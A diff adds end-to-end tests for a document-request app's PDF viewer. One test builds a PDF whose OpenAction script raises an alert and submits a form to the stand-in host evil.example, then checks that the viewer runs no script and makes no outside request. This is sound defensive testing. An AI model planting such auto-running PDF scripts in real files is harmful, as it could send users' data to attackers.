@@ -1,0 +1,57 @@
+import { PDFDocument, PDFName, PDFString, StandardFonts } from "pdf-lib";
+import { addFiles, expectArrived } from "../fixtures/checklist.ts";
+import { type Document, pdf } from "../fixtures/documents.ts";
+import { expect, test } from "../fixtures/test.ts";
+
+/** Creates a PDF that tries to run a script and submit a form when it is opened. */
+async function scriptedPdf(name: string): Promise<Document> {
+  const document = await PDFDocument.create();
+  const font = await document.embedFont(StandardFonts.Helvetica);
+  document.addPage([595, 842]).drawText(name, { x: 64, y: 740, size: 22, font });
+  const action = document.context.obj({
+    S: "JavaScript",
+    JS: PDFString.of("app.alert('owned'); this.submitForm('https://evil.example/');"),
+  });
+  document.catalog.set(PDFName.of("OpenAction"), action);
+  return { name, mimeType: "application/pdf", buffer: Buffer.from(await document.save()) };
+}
+
+test("PDFs are drawn one after another, and their scripts are not run", async ({ seedSentRequest }) => {
+  const { requesterPage, recipientPage } = await seedSentRequest({ items: ["Passport"] });
+  const names = ["passport.pdf", "scripted.pdf"];
+  await addFiles(recipientPage, "Passport", [await pdf("passport.pdf"), await scriptedPdf("scripted.pdf")]);
+  const externalRequests: string[] = [];
+  requesterPage.on("request", (request) => {
+    if (!/^(?:blob:|http:\/\/(?:localhost|127\.0\.0\.1):)/.test(request.url()))
+      externalRequests.push(request.url());
+  });
+  for (const name of names) {
+    await expectArrived(recipientPage, "Passport", name);
+    await requesterPage.getByRole("button", { name, exact: true }).click();
+    const dialog = requesterPage.getByRole("dialog", { name });
+    await expect(dialog.getByRole("region", { name: `${name}, 1 page` })).toContainText(name);
+    await dialog.getByRole("button", { name: "Close" }).click();
+  }
+  expect(externalRequests).toEqual([]);
+});
+
+test("a dialog shades the window up to its right edge, and the page behind does not scroll", async ({
+  seedSentRequest,
+}) => {
+  const { requesterPage, recipientPage } = await seedSentRequest({
+    items: ["Passport", ...Array.from({ length: 20 }, (_, n) => `Item ${n}`)],
+  });
+  await addFiles(recipientPage, "Passport", [await pdf("passport.pdf")]);
+  await expectArrived(recipientPage, "Passport", "passport.pdf");
+  const columnAt = async (x: number) =>
+    (await requesterPage.screenshot({ clip: { x, y: 400, width: 1, height: 1 } })).toString("base64");
+  await requesterPage.getByRole("button", { name: "passport.pdf", exact: true }).click();
+  const dialog = requesterPage.getByRole("dialog", { name: "passport.pdf" });
+  await expect(dialog.getByRole("region", { name: "passport.pdf, 1 page" })).toContainText("passport.pdf");
+
+  const width = requesterPage.viewportSize()?.width ?? 0;
+  expect(await columnAt(width - 1)).toBe(await columnAt(width - 40));
+  const scrolled = await requesterPage.evaluate(() => scrollY);
+  await requesterPage.keyboard.press("PageDown");
+  expect(await requesterPage.evaluate(() => scrollY)).toBe(scrolled);
+});
